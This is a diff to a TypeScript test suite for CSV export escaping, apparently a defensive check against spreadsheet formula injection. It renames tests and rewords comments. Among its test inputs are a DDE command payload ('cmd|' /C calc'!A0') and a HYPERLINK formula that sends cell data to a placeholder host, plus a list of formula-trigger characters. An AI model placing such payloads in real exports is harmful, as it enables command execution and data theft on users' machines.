@@ -10,7 +10,7 @@ const TWO: readonly Column<readonly [string, string]>[] = [
 ];
 const ANY: readonly Column<unknown>[] = [{ en: "value", zh: "值", of: (value) => value as string }];
 
-/** One line as a spreadsheet reads it (RFC 4180). */
+/** Fields of one line as a spreadsheet reads it (RFC 4180). */
 function fieldsOf(line: string): string[] {
   const fields: string[] = [];
   let at = 0;
@@ -39,16 +39,16 @@ function fieldsOf(line: string): string[] {
   }
 }
 
-// What OWASP's page on CSV injection names, and what programs pass over before they look: blanks and marks.
+// Characters that OWASP's page on CSV injection names, and those that programs skip first: blanks and marks.
 const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
 const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];
 
-/** Whether a spreadsheet may run a field. */
+/** Tells whether a spreadsheet may run a field. */
 function runs(field: string): boolean {
   return STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
 }
 
-t.test("what a spreadsheet would run is made a text", async (t) => {
+t.test("CSV: what a spreadsheet would run becomes a text", async (t) => {
   for (const blank of PASSED_OVER) {
     for (const start of STARTS) {
       for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
@@ -63,7 +63,7 @@ t.test("what a spreadsheet would run is made a text", async (t) => {
   }
 });
 
-t.test("numbers and plain texts stay as they are", async (t) => {
+t.test("CSV: numbers and plain texts stay as they are", async (t) => {
   for (const value of [
     0,
     -1,
@@ -85,11 +85,11 @@ t.test("numbers and plain texts stay as they are", async (t) => {
     t.same(fieldsOf(csvRow(ANY, value)), [String(value)]);
   }
   for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing), "\r\n");
-  // No number as a whole, however it begins.
+  // Texts that only begin like a number.
   for (const text of ["-1-1", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
 });
 
-t.test("digits that a spreadsheet would change are made a text", async (t) => {
+t.test("CSV: digits that a spreadsheet would change become a text", async (t) => {
   for (const text of [
     "113207230140123456",
     "320723198806140001",
@@ -105,13 +105,13 @@ t.test("digits that a spreadsheet would change are made a text", async (t) => {
   }
 });
 
-t.test("what is not seen is shown by its code point", async (t) => {
+t.test("CSV: invisible characters are shown by their code points", async (t) => {
   t.same(fieldsOf(csvRow(ANY, "民\u200b政\ufe0f\u3164局\r\n")), [
     "民〔U+200B〕政〔U+FE0F〕〔U+3164〕局〔U+000D〕〔U+000A〕",
   ]);
 });
 
-t.test("whatever a field holds, the line has its columns, and none begins a formula", async (t) => {
+t.test("CSV: a line keeps its columns for any content, and no field is a formula", async (t) => {
   const text = fc.string({
     unit: fc.oneof(
       fc.constantFrom(...STARTS, '"', ",", "'", " ", "1", "0", "e", "."),
@@ -133,7 +133,7 @@ t.test("whatever a field holds, the line has its columns, and none begins a form
   );
 });
 
-t.test("headings are fields too", async (t) => {
+t.test("CSV: headings are escaped too", async (t) => {
   const odd: readonly Column<unknown>[] = [{ en: 'a "b", c', zh: "甲，乙", of: () => "" }];
   t.equal(csvHead(odd, "en"), '"a ""b"", c"\r\n');
   t.equal(csvHead(odd, "zh"), "\ufeff甲，乙\r\n");
